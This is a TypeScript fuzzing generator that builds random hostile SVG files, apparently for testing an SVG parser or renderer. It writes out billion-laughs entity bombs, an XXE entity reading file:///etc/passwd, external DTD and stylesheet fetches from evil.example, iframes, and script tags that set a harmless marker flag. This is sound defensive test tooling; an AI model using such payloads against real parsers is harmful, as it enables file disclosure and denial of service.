import { ADDRESSES, CHARACTERS, PATHS, words } from './hostile.ts';
import type { Random } from './random.ts';

const NUMBERS = [
  '0',
  '-1',
  '1',
  '40',
  '1e9',
  '1e308',
  '1e999',
  'NaN',
  '-0',
  '1e-300',
  '99999999999999999999',
  '5%',
  '1em',
  '',
  'auto',
] as const;
const SHAPES = [
  'rect',
  'circle',
  'path',
  'line',
  'polygon',
  'ellipse',
  'g',
  'a',
  'symbol',
  'switch',
  'marker',
  'linearGradient',
  'clipPath',
  'mask',
  'filter',
  'pattern',
] as const;

/** A drawing of about so many characters. */
export function hostileSvg(random: Random, length: number): string {
  const many = random.size(1, Math.max(2, length / 8));
  if (random.isTame) return tameSvg(random, many);
  const head = random.pick([
    '',
    '',
    '<?xml version="1.0"?>',
    '<?xml version="1.0" encoding="UTF-16"?>',
    '\ufeff',
    entities(random),
    '<?xml-stylesheet href="https://evil.example/x.css"?>',
  ]);
  const size = random.chance(0.7)
    ? 'viewBox="0 0 40 30"'
    : `viewBox="0 0 ${number(random)} ${number(random)}" width="${number(random)}" height="${number(random)}"`;
  const namespaces = random.chance(0.9)
    ? 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    : '';
  return `${head}<svg ${namespaces} ${size} ${random.chance(0.1) ? 'onload="globalThis.handoutWasRun=1"' : ''}>${content(random, many)}${random.chance(0.95) ? '</svg>' : ''}`;
}

function tameSvg(random: Random, many: number): string {
  const number = () => random.int(0, 40);
  const shapes = random.times(Math.min(many, 300), () =>
    random.pick([
      `<rect x="${number()}" width="${number()}" height="${number()}"/>`,
      `<path d="M${number()} ${number()}h9v${number()}z" fill="#${number() % 10}00"/>`,
      `<g><circle r="${number()}" stroke="red"/></g>`,
    ]),
  );
  return `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 40 30"><title>${words(random, 2).replaceAll('&', '&amp;')}</title>${shapes.join('')}</svg>`;
}

function content(random: Random, many: number): string {
  switch (random.int(0, 11)) {
    case 0:
      return `${'<g>'.repeat(many)}<path d="M0 0h9v9z"/>${'</g>'.repeat(many)}`;
    case 1:
      return uses(random);
    case 2:
      return `<path d="${random.times(many, () => `${random.pick(['M', 'L', 'C', 'A', 'Z', 'h', 'q', 't'])}${number(random)} ${number(random)}`).join(' ')}"/>`;
    case 3:
      return `<script>globalThis.handoutWasRun=1</script><script href="${random.pick(ADDRESSES).replaceAll(/[<>"&]/g, '')}"/>`;
    case 4:
      return `<image href="${random.pick(PATHS).replaceAll(/[<>"&]/g, '')}" width="9" height="9"/><use href="../secret.svg#a"/>`;
    case 5:
      return `<style>@import "https://evil.example/x.css"; path { fill: url(https://evil.example/#a) }</style><path d="M0 0h9v9z" style="fill:url('file:///etc/passwd')"/>`;
    case 6:
      return `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/></foreignObject>`;
    case 7:
      return `<text>${words(random, 3).replaceAll(/[<>&]/g, '')}</text><title>${random.pick(CHARACTERS)}</title>`;
    case 8:
      return `&a;&b;&lol;${'&amp;'.repeat(many)}`;
    default:
      return random.times(Math.min(many, 400), () => shape(random)).join('');
  }
}

function shape(random: Random): string {
  const name = random.pick(SHAPES);
  const attributes = random.times(
    random.int(0, 4),
    () =>
      `${random.pick(['x', 'y', 'width', 'height', 'r', 'd', 'fill', 'stroke', 'stroke-width', 'transform', 'id', 'opacity', 'stroke-dasharray', 'filter', 'points'])}="${value(random)}"`,
  );
  const unique = [...new Map(attributes.map((attribute) => [attribute.split('=')[0], attribute])).values()].join(' ');
  return `<${name} ${unique}>${random.chance(0.3) ? shape(random) : ''}</${name}>`;
}

function value(random: Random): string {
  return random.chance(0.5)
    ? number(random)
    : random.pick([
        'red',
        '#f00',
        'url(#a)',
        'none',
        'a',
        'M0 0h9v9z',
        'scale(1e9)',
        'rotate(45)',
        '0.00001',
        '1 1',
        'url(#a) red',
        'blur(99999)',
      ]);
}

function number(random: Random): string {
  return random.chance(0.5) ? String(random.int(-50, 50)) : random.pick(NUMBERS);
}

/** Copies of copies by reference. */
function uses(random: Random): string {
  const depth = random.int(2, 30);
  const levels = random.times(
    depth,
    (level) => `<g id="a${level + 1}">${`<use href="#a${level}"/>`.repeat(random.int(1, 10))}</g>`,
  );
  const first = random.chance(0.8) ? '<path id="a0" d="M0 0h9v9z"/>' : `<g id="a0"><use href="#a${depth}"/></g>`;
  return `<defs>${first}${levels.join('')}</defs><use href="#a${depth}"/>`;
}

/** A document type with entities that name each other, or a file. */
function entities(random: Random): string {
  const names = 'abcdefghi';
  const lines = [...names].map(
    (name, index) => `<!ENTITY ${name} "${index === 0 ? 'lol' : `&${names[index - 1]};`.repeat(9)}">`,
  );
  return `<!DOCTYPE svg [${random.pick([lines.join(''), '<!ENTITY a SYSTEM "file:///etc/passwd">', '<!ENTITY % b SYSTEM "https://evil.example/x.dtd">%b;', '<!ENTITY a "&a;">'])}]>`;
}
